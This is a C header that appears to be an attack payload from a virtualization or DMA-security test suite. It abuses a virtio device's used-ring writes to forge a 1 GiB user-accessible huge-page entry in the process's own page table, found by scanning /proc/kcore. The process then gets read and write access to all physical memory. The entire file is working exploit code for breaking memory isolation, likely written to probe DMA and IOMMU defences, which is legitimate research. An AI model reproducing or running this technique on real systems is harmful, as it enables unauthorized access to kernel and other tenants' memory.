/* SPDX-License-Identifier: GPL-2.0-only */
/*
 * By DMA of a virtio device (guest-images/payloads/virtio_dma.c). The device counts used buffers in
 * its used ring. The ring lies in a page table of this process: when the count is HUGE_PAGE, the
 * process has all memory mapped. BY_CONFIG: the device's registers are reached through its PCI
 * configuration (Virtual I/O Device 1.2, 4.1.4.9), else they are mapped.
 */
#ifndef FORGING_PCI_H
#define FORGING_PCI_H

#include "virtio_rings.h"

#define SPACE		(4 * PAGE)
#define HUGE_PAGE	0x87	/* present, writable, for users, 1 GiB from address 0 on */
#define ENTRY		256	/* of the table, which has two others in use: the first two */
#define GIB		(1UL << 30)
#define WINDOW		(1UL << 45)	/* the first address of a table of its own */
#define PRESENT		1
#define FRAME_BITS	0x000ffffffffff000UL
#define TEXT_OF(number)	TEXT_OF_VALUE(number)
#define TEXT_OF_VALUE(number)	#number
#define RAM_START	0x100000UL

/* Offsets in the device's common configuration. */
#define SELECT		22
#define SIZE		24
#define ENABLE		28
#define BELL		30
#define DESCRIPTORS	32
#define AVAILABLE	40
#define USED		48

static char *const all = (char *)WINDOW + ENTRY * GIB;

#ifdef BY_CONFIG

#define FIRST	0x34	/* where the list of capabilities begins */
#define VENDOR	9
#define ACCESS	5	/* VIRTIO_PCI_CAP_PCI_CFG */

static long config;
static unsigned char window;

static bool open_registers(void)
{
	unsigned char head[4];

	config = sys(__NR_open, FOLDER "/config", O_RDWR);
	sys(__NR_pread64, config, &window, 1, FIRST);
	while (window) {
		sys(__NR_pread64, config, head, sizeof(head), window);
		if (head[0] == VENDOR && head[3] == ACCESS)
			return true;
		window = head[1];
	}
	return false;
}

static void aim(unsigned int at, unsigned int size)
{
	unsigned char bar = BAR;

	sys(__NR_pwrite64, config, &bar, sizeof(bar), window + 4);
	sys(__NR_pwrite64, config, &at, sizeof(at), window + 8);
	sys(__NR_pwrite64, config, &size, sizeof(size), window + 12);
}

static void write_register(unsigned int at, unsigned int value, unsigned int size)
{
	aim(at, size);
	sys(__NR_pwrite64, config, &value, size, window + 16);
}

static unsigned int read_register16(unsigned int at)
{
	__u16 value = 0;

	aim(at, sizeof(value));
	sys(__NR_pread64, config, &value, sizeof(value), window + 16);
	return value;
}

#else

static char *registers;

static bool open_registers(void)
{
	long file = sys(__NR_open, FOLDER "/resource" TEXT_OF(BAR), O_RDWR);
	long at = sys(__NR_mmap, 0, SPACE, PROT_READ | PROT_WRITE, MAP_SHARED, file, 0);

	registers = (char *)at;
	return at > 0;
}

static void write_register(unsigned int at, unsigned int value, unsigned int size)
{
	if (size == sizeof(__u16))
		*(volatile __u16 *)(registers + at) = value;
	else
		*(volatile __u32 *)(registers + at) = value;
}

static unsigned int read_register16(unsigned int at)
{
	return *(volatile __u16 *)(registers + at);
}

#endif

static void write16(unsigned int at, unsigned int value)
{
	write_register(at, value, sizeof(__u16));
}

static void write64(unsigned int at, unsigned long value)
{
	write_register(at, value, sizeof(__u32));
	write_register(at + sizeof(__u32), value >> 32, sizeof(__u32));
}

static unsigned long word_at(unsigned long physical)
{
	unsigned long word = 0;

	sys(__NR_pread64, memory, &word, sizeof(word), KCORE_AT + physical);
	return word;
}

/* Follow three levels of page tables, from an entry of the highest to the page's address. */
static unsigned long page_below(unsigned long entry)
{
	unsigned long word;
	int level;

	for (level = 0; level < 3; level++) {
		word = word_at(entry);
		if (!(word & PRESENT))
			return 0;
		entry = word & FRAME_BITS;
	}
	return entry;
}

static unsigned long map_page(unsigned long at)
{
	sys(__NR_mmap, at, PAGE, PROT_READ | PROT_WRITE,
	    MAP_PRIVATE | MAP_ANONYMOUS | MAP_FIXED, -1, 0);
	*(volatile char *)at = 1;
	return physical((void *)at);
}

/* Find this process's table of GiBs. A freed table may hold one of the two entries, not both. */
static unsigned long find_table(void)
{
	unsigned long first = map_page(WINDOW), second = map_page(WINDOW + GIB);
	unsigned long table;

	for (table = RAM_START; table < MEMORY_SIZE; table += PAGE) {
		if (page_below(table) == first &&
		    page_below(table + sizeof(table)) == second)
			return table;
	}
	return 0;
}

static void count_to(int end, unsigned int bell, unsigned long entry)
{
	int number;

	for (number = 1; number <= end; number++) {
		rings.available.index = number;
		write16(bell, QUEUE);
		while ((__u16)word_at(entry) != number)
			sleep_for(1);
	}
}

static bool begin(void)
{
	unsigned long entry;

	memory = sys(__NR_open, "/proc/kcore", O_RDONLY);
	entry = find_table() + ENTRY * sizeof(entry);
	if (!open_registers() || entry < RAM_START)
		return false;
	rings.descriptors[0].address = physical(&rings);
	rings.descriptors[0].size = sizeof(rings);

	write16(COMMON + SELECT, QUEUE);
	write16(COMMON + SIZE, QUEUED);
	write64(COMMON + DESCRIPTORS, physical(&rings));
	write64(COMMON + AVAILABLE, physical(&rings.available));
	/* Flags, and then the count. */
	write64(COMMON + USED, entry - sizeof(__u16));
	write16(COMMON + ENABLE, 1);
	count_to(HUGE_PAGE, NOTIFY + read_register16(COMMON + BELL) * STEP, entry);
	return true;
}

static void get(enum place place, unsigned long offset, void *to, unsigned long size)
{
	memcpy(to, all + places[place] + offset, size);
}

static void put(enum place place, unsigned long offset, const void *from, unsigned long size)
{
	memcpy(all + places[place] + offset, from, size);
}

#endif
